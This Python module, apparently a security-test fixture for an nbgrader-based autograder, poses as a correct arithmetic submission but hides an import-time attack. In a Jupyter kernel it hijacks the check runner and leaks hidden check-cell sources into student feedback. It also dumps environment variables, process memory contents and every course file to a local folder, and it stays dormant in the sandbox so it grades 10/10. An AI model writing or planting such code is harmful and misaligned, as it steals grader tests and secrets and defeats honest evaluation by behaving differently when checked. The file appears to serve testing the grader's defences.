"""Arithmetic, correct, plus an attack on the nbgrader channel (tests/test_nbgrader.py runs it).

In a Jupyter kernel (``nbgrader autograde`` runs the notebook there, next to the check cells) it
captures the check runner: every check cell's source, the locals of every frame the runner goes
through; and it sweeps what the kernel can reach: globals, sys.modules, what ``gc`` tracks,
``linecache``, the environment (``/proc/self/environ`` too) and the files of the nbgrader course
around it. All of it goes to ``capture/`` beside the notebook, and the captured cells into their
output, which ``nbgrader generate_feedback`` puts in the student's feedback. Graded in the
sandbox it is an honest module: 10/10.
"""

ANSWER = 42


def add(a, b):
    """Return a + b."""
    return a + b


def safe_div(a, b):
    """Return a / b; raise ZeroDivisionError for b == 0."""
    return a / b


def _capture():
    import gc
    import linecache
    import os
    import sys
    import types
    from pathlib import Path

    try:
        ipython = get_ipython()  # noqa: F821 - defined in a Jupyter kernel only
    except NameError:
        return  # graded in the sandbox: nothing to capture
    try:
        import autograder.nbgrader.kernel as checks_module
    except ImportError:
        return
    runner = checks_module.run_checks
    out = Path("capture").resolve()
    out.mkdir(exist_ok=True)
    found: set[str] = set()

    def strings(value, depth=3, seen=None):
        """Every string in a value: containers, functions (their constants, defaults, closures),
        modules and classes (their namespaces), a few levels deep."""
        seen = set() if seen is None else seen
        if id(value) in seen or depth < 0:
            return
        seen.add(id(value))
        if isinstance(value, str):
            found.add(value[:200_000])
        elif isinstance(value, bytes):
            found.add(value[:200_000].decode("latin-1"))
        elif isinstance(value, int | float) and not isinstance(value, bool):
            found.add(repr(value))
        elif isinstance(value, dict):
            for key, item in list(value.items())[:5000]:
                strings(key, depth - 1, seen)
                strings(item, depth - 1, seen)
        elif isinstance(value, list | tuple | set | frozenset):
            for item in list(value)[:5000]:
                strings(item, depth - 1, seen)
        elif isinstance(value, types.CodeType):
            strings(value.co_consts, depth, seen)
            found.update(value.co_names)
        elif isinstance(value, types.FunctionType):
            strings(value.__code__, depth, seen)
            strings(value.__defaults__, depth - 1, seen)
            strings(value.__kwdefaults__, depth - 1, seen)
            for cell in value.__closure__ or ():
                try:
                    strings(cell.cell_contents, depth - 1, seen)
                except ValueError:
                    pass
        elif isinstance(value, types.ModuleType | type):
            strings(dict(vars(value)), depth - 1, seen)
        elif hasattr(value, "__dict__"):
            try:
                strings(dict(vars(value)), depth - 1, seen)
            except TypeError:
                pass

    def profile(frame, event, arg):  # every frame the check runner goes through
        if event in ("call", "return") and len(found) < 2_000_000:
            strings(dict(frame.f_locals), 2)
            strings(arg, 2)

    def sweep():
        strings(dict(os.environ))
        try:
            found.add(Path("/proc/self/environ").read_bytes().decode("latin-1"))
        except OSError:
            pass
        strings(dict(ipython.user_ns), 2)
        for name, module in list(sys.modules.items()):
            found.add(name)
            if not getattr(module, "__file__", None) or "autograder" in name:  # made at run time
                strings(module, 3)
        for obj in gc.get_objects():
            if type(obj) in (dict, list, tuple, set, types.FunctionType, types.CodeType):
                strings(obj, 1)
        for entry in list(linecache.cache.values()):
            strings(entry, 2)
        (out / "memory.txt").write_text("\n\x00\n".join(sorted(found)), errors="replace")

    def sweep_files():
        course = Path.cwd()
        while course.parent != course and not (course / "nbgrader_config.py").is_file():
            course = course.parent
        if not (course / "nbgrader_config.py").is_file():
            course = Path.cwd()
        parts = []
        for path in sorted(course.rglob("*")):
            if path.is_file() and out not in path.parents and path.stat().st_size < 20 << 20:
                parts.append(f"== {path}\n{path.read_bytes().decode('latin-1')}")
        (out / "files.txt").write_text("\n".join(parts), errors="replace")

    def spy(path, source, namespace):
        print(f"captured check cell {path!r}:\n{source}")  # into the cell's output: the feedback
        found.add(source)
        sys.setprofile(profile)
        try:
            return runner(path, source, namespace)
        finally:
            sys.setprofile(None)
            try:
                sweep()
                sweep_files()
            except Exception as exc:  # noqa: BLE001 - never break the cell
                print(f"capture failed: {exc!r}")

    checks_module.run_checks = spy


_capture()
